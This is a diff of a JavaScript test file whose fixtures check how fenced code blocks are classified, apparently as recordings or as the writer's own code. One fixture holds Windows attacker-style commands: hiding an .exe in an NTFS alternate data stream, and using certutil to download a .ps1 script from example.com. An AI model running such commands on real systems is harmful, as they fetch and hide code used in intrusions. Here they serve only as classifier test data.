@@ -95,7 +95,7 @@ describe('split code that is no recording stays the writer\'s', () => {
     ['Python code holding numbers', `\`\`\`python\n${lines(30, (i) => `weights[${i}] = scale(${i}, 0.${i}, offset=${i * 16})`)}\n\`\`\``],
     ['a shell excerpt behind comments', `\`\`\`bash\n# install the tools\n${lines(30, (i) => `apt-get install -y tool-${i}`)}\n\`\`\``],
     ['a cheat sheet of commands under notes, a few behind a prompt (`C:\\> type …`), most bare', `\`\`\`bash\n${lines(10, (i) => `# Step ${i} of the recipe\nC:\\temp> type file${i}.exe > "C:\\Program Files\\log${i}.txt:evil.exe"\n# and then\ncertutil.exe -urlcache -split -f https://example.com/${i}.ps1 c:\\temp:t${i}\ndir /R c:\\dir${i}`)}\n\`\`\``],
-    ['PowerShell parameters typed in brackets (`[String]$Mode,`), no prompts', `\`\`\`powershell\nparam(\n${lines(30, (i) => `    [String]$Param${i},\n    # parameter ${i}`)}\n)\n\`\`\``],
+    ['PowerShell parameters typed in brackets (`[String]$Mode,`), no prompts', `\`\`\`powershell\n${lines(30, (i) => `[String]$Param${i},\n# parameter ${i}`)}\n\`\`\``],
     ['numbered steps in a fence (`1) Right click …`)', `\`\`\`\n${lines(15, (i) => `${i + 1}) Click the "Option ${i}" button and wait for the dialog.\n`)}\n\`\`\``],
     ['JavaScript calls chained over lines without indentation', `\`\`\`js\n${lines(15, (i) => `fetch(url${i}, {\nmethod: 'POST' })`)}\n\`\`\``],
     ['a tool\'s version banner followed by C code', `\`\`\`c\nImpacket v0.9.24 - Copyright 2021 SecureAuth Corporation\n${lines(30, (i) => `int value${i} = compute(${i});`)}\n\`\`\``],
